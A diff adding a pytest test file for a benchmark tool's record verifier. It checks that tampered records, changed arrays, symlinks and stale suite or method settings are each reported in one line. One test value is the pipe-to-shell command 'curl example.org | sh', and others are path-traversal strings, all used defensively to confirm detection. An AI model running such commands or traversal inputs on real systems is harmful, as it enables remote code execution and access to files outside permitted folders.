@@ -1,0 +1,141 @@
+"""Verification of whole folders: what is wrong with a record's file is told, and nothing else is."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from compatbench.evaluation.arrays import array_path
+from compatbench.plan import Selection
+from compatbench.plugins import discover
+from compatbench.records import read_record
+from compatbench.store import Store
+from compatbench.suite import Suite, load_suite
+from compatbench.verification.problems import Problem, serious
+from compatbench.verification.record_files import check_record
+from compatbench.verification.rescoring import Rescorer
+from compatbench.verification.staleness import stale
+from compatbench.verification.verify import verify
+
+SPEC = ("spec",)
+CHANGES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
+    "seed": (lambda data: data["spec"].update(seed=1), "its spec_hash is not the hash of its spec"),
+    "spec is no number": (lambda data: data["spec"]["recipe"].update(lr=float("nan")), "its spec_hash is not"),
+    "moved": (lambda data: data["spec"].update(scenario="other"), "does not lie where"),
+    "hash": (lambda data: data.update(spec_hash="0" * 64), "does not lie where"),
+    "protocol": (lambda data: data.update(protocol_version=7), "protocol 7, but its spec says 1"),
+    "command": (lambda data: data.update(command="curl example.org | sh"), "its command is not the one"),
+    "path": (lambda data: data.update(error="in /home/me/data/x.png"), "names an absolute path"),
+    "failed with scores": (lambda data: data.update(status="failed"), "status failed, and yet it has scores"),
+    "a score": (lambda data: data["metrics"][0].update(value=0.9), "mAP(0,0): value is"),
+    "an array of elsewhere": (lambda data: data["arrays"][0].update(sha256="../" * 21 + "x"), "arrays.0.sha256: "),
+    "a folder of elsewhere": (lambda data: data["spec"].update(suite="../../x"), "spec.suite: "),
+    "no such array": (lambda data: data["arrays"][0].update(sha256="0" * 64), "per-query arrays not readable"),
+    "the curves of another file": (
+        lambda data: data["backfill"][0].update(sha256=data["arrays"][0]["sha256"]),
+        "its arrays do not fit it",
+    ),
+    "no record": (lambda data: data.clear(), "schema version None"),
+}
+
+
+def problems(path: Path, store: Store) -> list[Problem]:
+    return check_record(path, store, Rescorer(store.arrays))[1]
+
+
+def test_a_right_record_has_nothing_but_notes(store: Store) -> None:
+    paths = list(store.records("historic").rglob("*.json"))
+    assert len(paths) == 2
+    for path in paths:
+        assert serious(problems(path, store)) == []
+
+
+@pytest.mark.parametrize(("change", "message"), CHANGES.values(), ids=CHANGES)
+def test_what_was_changed_is_told_in_one_line(
+    store: Store, path: Path, change: Callable[[dict[str, Any]], Any], message: str
+) -> None:
+    data = json.loads(path.read_text())
+    change(data)
+    path.write_text(json.dumps(data))
+    found = [str(problem) for problem in serious(problems(path, store))]
+    where = path.relative_to(store.root).as_posix()
+    assert any(line.startswith(f"FAIL  {where}: ") and message in line for line in found), found
+    assert all(len(line.splitlines()) == 1 for line in found)
+
+
+def test_changed_arrays_are_told(store: Store, path: Path) -> None:
+    sha256 = read_record(path).arrays[0].sha256
+    file = array_path(store.arrays, sha256)
+    file.write_bytes(file.read_bytes()[:-1] + b"x")
+    [found] = serious(problems(path, store))
+    assert "were changed after they were written" in found.message
+
+
+def test_only_what_is_selected_is_told(store: Store, path: Path) -> None:
+    path.write_text(path.read_text().replace('"seconds"', '"secunds"'))
+    other = next(store.records("historic").rglob("independent--*.json"))
+    other.write_text(other.read_text().replace("--scenarios extended_class", "--scenarios no"))
+    catalogue = discover()
+
+    def told(selection: Selection) -> list[str]:
+        verdict = verify(store, catalogue, (), selection, published=False)
+        return [problem.where.rpartition("/")[2] for problem in serious(verdict.problems)]
+
+    assert told(Selection()) == [path.name, other.name]
+    assert told(Selection(methods=("bct",))) == [path.name], "what cannot be read is of every selection"
+    assert told(Selection(scenarios=("extended_data",))) == [path.name]
+    assert told(Selection(methods=("independent",), seeds=(0,))) == [path.name, other.name]
+
+
+def test_a_link_is_not_followed(store: Store, path: Path, tmp_path: Path) -> None:
+    (tmp_path / "outside.json").write_text("{}")
+    (path.parent / "link.json").symlink_to(tmp_path / "outside.json")
+    verdict = verify(store, discover(), (), Selection(), published=False)
+    assert [problem.message for problem in verdict.problems] == ["is a link; put the file itself there"]
+
+
+@pytest.fixture
+def suite() -> Suite:
+    return load_suite(str(Path(__file__).parents[1] / "historic" / "historic.yaml"))[1]
+
+
+STALE: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
+    "recipe": ({}, {"recipe": {"epochs": 2}}, "the suite has another recipe"),
+    "size": ({"image_size": 32}, {}, "the suite has another image_size"),
+    "scenario": ({"scenario": "gone"}, {}, "the suite has no scenario 'gone' any more"),
+    "chain": ({"generations": [{"backbone": "test_vit"}] * 2}, {}, "'extended_class' has other generations"),
+    "chain of nothing": ({"generations": [{"spine": 1}]}, {}, "'extended_class' has other generations"),
+    "tested on": ({"test_classes": "unseen"}, {}, "'extended_class' has other generations"),
+    "protocol": ({"protocol": 0}, {}, "made under protocol 0"),
+}
+
+
+@pytest.mark.parametrize(("spec", "settings", "message"), STALE.values(), ids=STALE)
+def test_what_changed_in_the_suite_is_told(
+    path: Path, suite: Suite, spec: dict[str, Any], settings: dict[str, Any], message: str
+) -> None:
+    recorded = read_record(path).spec.model_copy(update=spec)
+    changed = Suite.model_validate(suite.model_dump(exclude={"defaults"}) | settings)
+    assert any(message in reason for reason in stale(recorded, changed, discover()))
+
+
+def test_what_changed_in_the_method_is_told(path: Path, suite: Suite) -> None:
+    spec, catalogue = read_record(path).spec, discover()
+    plugin = catalogue.get("bct")
+    now = spec.method.model_copy(
+        update={"source_hash": plugin.source_hash, "params": plugin.resolve(spec.method.params).model_dump(mode="json")}
+    )
+    assert list(stale(spec.model_copy(update={"method": now}), suite, catalogue)) == []
+    changed = {
+        "the source of method 'bct' changed": {"source_hash": "0" * 64},
+        "no method 'bcc'; did you mean 'bct'?": {"name": "bcc"},
+        "method 'bct' has other parameters now": {"params": {}},
+    }
+    for message, update in changed.items():
+        other = spec.model_copy(update={"method": now.model_copy(update=update)})
+        assert list(stale(other, suite, catalogue)) == [message]
+    assert next(stale(spec, None, catalogue)) == "there is no suite 'historic' any more"
